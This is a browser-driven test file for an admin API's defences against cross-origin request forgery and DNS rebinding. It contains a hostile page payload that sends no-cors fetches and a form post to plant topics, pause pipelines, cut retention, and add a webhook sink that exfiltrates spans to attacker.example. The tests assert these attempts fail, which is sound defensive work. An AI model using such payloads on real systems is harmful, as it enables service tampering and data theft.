import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumAvailable, launchBrowser, useConsole, waitForText } from './browser.js';

// biome-ignore lint/suspicious/noExplicitAny: response bodies are what the assertions check
const json = (res: Response): Promise<any> => res.json();

/**
 * A page from another origin that, opened by an operator whose browser can reach the admin port,
 * tries every change the API takes: requests a browser sends without asking first (no-cors fetch
 * with a text/plain body, a form post), as a hostile site would.
 */
const hostilePage = (admin: string) => `<!doctype html><html><body><p id="state">sending</p><script>
const admin = ${JSON.stringify(admin)};
const send = (method, path, body) => fetch(admin + path, { method, mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: body && JSON.stringify(body) }).catch(() => undefined);
Promise.all([
  send('POST', '/api/v1/topics', { name: 'planted', partitions: 1 }),
  send('POST', '/api/v1/pipelines', { group: 'exfiltrate', topics: ['otlp_spans'], sink: { type: 'webhook', endpoint: 'http://attacker.example/collect' } }),
  send('POST', '/api/v1/pipelines/team-backend/pause'),
  send('POST', '/api/v1/groups/team-backend/offsets', { to: 'latest', topics: ['otlp_spans'] }),
  send('PATCH', '/api/v1/topics/otlp_spans', { retentionMs: 1 }),
]).then(() => {
  const form = document.createElement('form');
  form.method = 'POST';
  form.action = admin + '/api/v1/pipelines/team-backend/pause';
  form.target = 'sink';
  document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' }), form);
  form.submit();
  document.getElementById('state').textContent = 'sent';
});
</script></body></html>`;

describe.skipIf(!chromiumAvailable())('the admin API (open, no admin.auth) and pages of other origins', () => {
  const fixture = useConsole();
  let site: Server;
  let siteUrl: string;
  beforeAll(async () => {
    const { admin } = fixture();
    site = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(hostilePage(admin)));
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    siteUrl = `http://127.0.0.1:${(site.address() as AddressInfo).port}/`;
  });
  afterAll(() => {
    site?.closeAllConnections();
    return new Promise<void>((resolve) => site?.close(() => resolve()));
  });

  it('changes nothing for a page of another origin, while the console and clients without an Origin still change what they ask', async () => {
    const { admin, page } = fixture();
    const created = await fetch(`${admin}/api/v1/pipelines`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ group: 'team-backend', topics: ['otlp_spans'], sink: { type: 'debug' } }),
    });
    expect(created.status).toBe(201);
    const before = await json(await fetch(`${admin}/api/v1/topics/otlp_spans`));

    await page.goto(siteUrl);
    await waitForText(page, ['sent']);
    // The form's answer is the last request the page makes: wait until it is in.
    await page.waitForNetworkIdle({ idleTime: 300 });

    const topics = (await json(await fetch(`${admin}/api/v1/topics`))).topics.map((t: { name: string }) => t.name);
    expect(topics).not.toContain('planted');
    const pipelines = (await json(await fetch(`${admin}/api/v1/pipelines`))).pipelines;
    expect(pipelines.map((p: { group: string; state: string }) => [p.group, p.state])).toEqual([['team-backend', 'running']]);
    expect((await json(await fetch(`${admin}/api/v1/topics/otlp_spans`))).settings).toEqual(before.settings);

    // A cross-origin change is answered 403 naming the origin; the console's own page still changes things.
    const refused = await fetch(`${admin}/api/v1/pipelines/team-backend/pause`, { method: 'POST', headers: { origin: 'http://attacker.example' } });
    expect(refused.status).toBe(403);
    expect((await json(refused)).error).toEqual({ code: 'CROSS_ORIGIN', message: expect.stringContaining('http://attacker.example') });
    await page.goto(`${admin}/ui/topics`);
    const sameOrigin = await page.evaluate(async () => {
      const res = await fetch('/api/v1/pipelines/team-backend/pause', { method: 'POST' });
      return res.status;
    });
    expect(sameOrigin).toBe(200);
  });
});

describe.skipIf(!chromiumAvailable())('the admin API on a loopback address and a page whose name was rebound to it', () => {
  const fixture = useConsole();

  it('refuses the rebound name, so the page cannot read the API as its own origin, while localhost is served', async () => {
    const port = new URL(fixture().admin).port;
    // What DNS rebinding achieves: the attacker's name now resolves to this machine.
    const browser = await launchBrowser(['--host-resolver-rules=MAP rebound.example 127.0.0.1']);
    try {
      const page = await browser.newPage();
      const rebound = await page.goto(`http://rebound.example:${port}/api/v1/topics`);
      expect(rebound?.status()).toBe(403);
      expect(JSON.parse(await rebound!.text()).error.code).toBe('HOST_NOT_ALLOWED');
      const local = await page.goto(`http://localhost:${port}/api/v1/topics`);
      expect(local?.status()).toBe(200);
    } finally {
      await browser.close();
    }
  });
});
